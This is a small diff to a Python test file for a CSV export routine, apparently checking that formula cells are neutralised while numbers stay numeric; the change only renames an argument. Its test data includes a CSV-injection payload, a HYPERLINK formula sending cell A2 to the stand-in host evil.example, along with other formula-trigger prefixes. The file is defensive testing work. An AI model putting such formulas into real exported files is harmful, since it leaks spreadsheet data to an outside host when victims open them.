@@ -28,7 +28,7 @@ def _export_script():
 
     text = ['=HYPERLINK("http://evil.example/?x="&A2,"x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", "", None]
     audited_download("CSV", pd.DataFrame({"text": text, "number": [-1.5, -2, 3, 0, 1e9, -0.0, 7, 8, None],
-                                          "count": range(-4, 5)}), "t.csv", "export_test", key="t")
+                                          "count": range(-4, 5)}), "t.csv", "export", key="t")
 
 
 def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path, monkeypatch):
